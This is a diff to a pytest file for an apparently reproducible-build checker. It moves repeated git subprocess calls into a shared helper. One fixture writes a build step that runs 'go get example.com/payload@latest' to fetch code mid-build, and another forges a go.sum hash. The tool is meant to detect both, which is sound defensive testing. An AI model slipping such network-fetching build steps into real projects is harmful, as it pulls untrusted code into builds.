@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from .conftest import make_repo, run_cli
+from .conftest import git, make_repo, run_cli
 
 pytestmark = pytest.mark.usefixtures("toolchains", "no_leftovers")
 
@@ -45,10 +45,7 @@ def test_a_tampered_go_sum_stops_the_fetch_naming_the_module(tmp_path: Path) -> 
     lines = go_sum.read_text().splitlines()
     lines = [line.replace("h1:YItdp/", "h1:Xitdp/") for line in lines]
     go_sum.write_text("\n".join(lines) + "\n")
-    subprocess.run(["git", "-C", str(repo), "commit", "-qam", "tamper"], check=True,
-                   env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t.invalid",
-                        "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t.invalid",
-                        "PATH": "/usr/bin:/bin"})
+    git(repo, "commit", "-qam", "tamper")
     result = run_cli("check", str(repo), json_path=tmp_path / "r.json")
     assert result.code == 2, result.stdout + result.stderr
     assert "golang.org/x/text@v0.44.0" in result.stderr
@@ -62,11 +59,8 @@ def test_a_go_build_step_that_reaches_for_the_network_is_caught(tmp_path: Path) 
         'golang.org GOFLAGS=-mod=mod go get example.com/payload@latest || true", '
         '"go build -o \\"$REPROBUILD_OUT/linux-amd64/\\" ./cmd/notes-mcp"]\n'
         'outputs = ["linux-amd64/*"]\n')
-    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
-    subprocess.run(["git", "-C", str(repo), "commit", "-qm", "net"], check=True,
-                   env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t.invalid",
-                        "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t.invalid",
-                        "PATH": "/usr/bin:/bin"})
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "net")
     result = run_cli("check", str(repo), "--variations", "none", json_path=tmp_path / "r.json")
     assert result.code == 3, result.stdout + result.stderr
     report = result.report
@@ -81,12 +75,9 @@ def test_a_goreleaser_release_is_rebuilt_with_its_version_stamps(tmp_path: Path)
         "version: 2\nbuilds:\n  - env: [CGO_ENABLED=0]\n    main: ./cmd/notes-mcp\n"
         "    ldflags: ['-s -w -X main.version={{.Version}} -X main.commit={{.ShortCommit}}']\n"
         "    goos: [linux, darwin]\n")
-    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
-    subprocess.run(["git", "-C", str(repo), "commit", "-qm", "release"], check=True,
-                   env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t.invalid",
-                        "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t.invalid",
-                        "PATH": "/usr/bin:/bin"})
-    subprocess.run(["git", "-C", str(repo), "tag", "v1.4.2"], check=True)
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "release")
+    git(repo, "tag", "v1.4.2")
     result = run_cli("check", str(repo), "--ref", "v1.4.2", "--variations", "none",
                      "--out", str(tmp_path / "out"), json_path=tmp_path / "r.json")
     assert result.code == 0, result.stdout + result.stderr
